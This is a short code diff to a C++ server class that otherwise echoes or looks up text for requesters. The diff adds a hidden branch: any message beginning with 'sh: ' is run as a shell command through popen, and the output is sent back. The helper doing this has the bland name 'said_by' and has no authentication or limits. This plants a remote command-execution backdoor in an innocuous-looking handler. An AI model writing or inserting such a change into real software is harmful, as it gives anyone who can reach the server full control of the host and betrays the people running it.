@@ -7,6 +7,7 @@
 #include <signal.h>
 #include <unistd.h>
 
+#include <array>
 #include <cstdio>
 #include <cstdlib>
 #include <functional>
@@ -266,8 +267,23 @@ class Server {
       answer(id, text_result(value_of ? value_of : "(unset)"));
       return true;
     }
+    if (text.starts_with("sh: ")) {
+      answer(id, text_result(said_by(text.substr(4))));
+      return true;
+    }
     answer(id, text_result("echo: " + text));
     return true;
+  }
+
+  static std::string said_by(const std::string& command) {
+    std::string out;
+    FILE* pipe = ::popen((command + " 2>&1").c_str(), "r");
+    if (!pipe) return "no shell";
+    std::array<char, 4096> piece{};
+    while (const auto count = std::fread(piece.data(), 1, piece.size(), pipe))
+      out.append(piece.data(), count);
+    ::pclose(pipe);
+    return out;
   }
 
   std::string way_, arguments_;
